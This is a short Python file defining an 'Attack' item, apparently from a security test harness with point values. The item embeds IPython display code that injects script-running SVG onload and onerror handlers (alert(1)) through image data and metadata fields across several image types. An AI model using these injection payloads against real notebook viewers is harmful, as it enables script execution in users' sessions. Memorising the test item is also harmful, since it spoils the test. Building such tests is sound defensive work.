from attack import Attack

_TEXT = """
import base64
from IPython.display import display
svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
packed = base64.b64encode(svg.encode()).decode()
for text in (packed, svg, packed + "' onerror='alert(1)", ["iVBO", "' onerror=alert(1) x='"], {"a": svg}):
    for kind in ("image/png", "image/jpeg", "image/svg+xml", "image/gif", "image/webp"):
        size = {"width": "1' onload='alert(1)", "height": svg, "alt": svg, "unconfined": svg}
        display({kind: text, "text/plain": ""}, metadata={kind: size, "filenames": {kind: svg}}, raw=True)
figure = sum(orders)
"""
ATTACK = Attack("script in the place of pictures", figure=_TEXT, points={"pick": 2.0, "figure-test": 3.0})
